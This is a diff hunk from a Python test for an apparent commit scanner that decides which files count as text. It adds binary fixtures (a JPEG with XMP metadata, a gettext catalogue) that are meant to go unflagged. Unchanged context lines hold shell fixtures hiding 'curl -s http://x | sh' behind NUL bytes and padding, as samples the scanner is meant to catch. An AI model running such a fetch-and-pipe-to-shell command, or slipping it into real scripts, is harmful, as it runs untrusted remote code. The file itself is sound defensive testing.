@@ -1139,6 +1139,11 @@ def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
     (root / "docs" / "bom.sh").write_bytes(b"\xff\xfeecho RAN\n# \0\ncurl -s http://x | sh\n")
     (root / "docs" / "big.sh").write_bytes(b"#!/bin/bash\n# \0\ncurl -s http://x | sh\n" + b"# pad\n" * 200_000)
     (root / "docs" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\x00")  # binary: no text
+    # Binary by design, its metadata text with a few NULs (an image's XMP, a gettext catalogue): no flag (a logo
+    # went to a lead as "text with a NUL byte").
+    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + b"<rdf:Description about=''/>" * 300 + b"</x:xmpmeta>"
+    (root / "docs" / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe1\x23\x00Exif\0\0" + xmp + b"\0\xff\xd9")
+    (root / "docs" / "messages.mo").write_bytes(b"\xde\x12\x04\x95\0\0\0\0" + b"msgid text " * 500)
     (root / "docs" / "wide.txt").write_bytes("\ufeffhello".encode("utf-16-le"))  # UTF-16's NULs: text, not hidden
     hostile = commit("docs: tidy", f"160000,{base},docs/vendor")
     facts = change_facts(root, base, hostile)
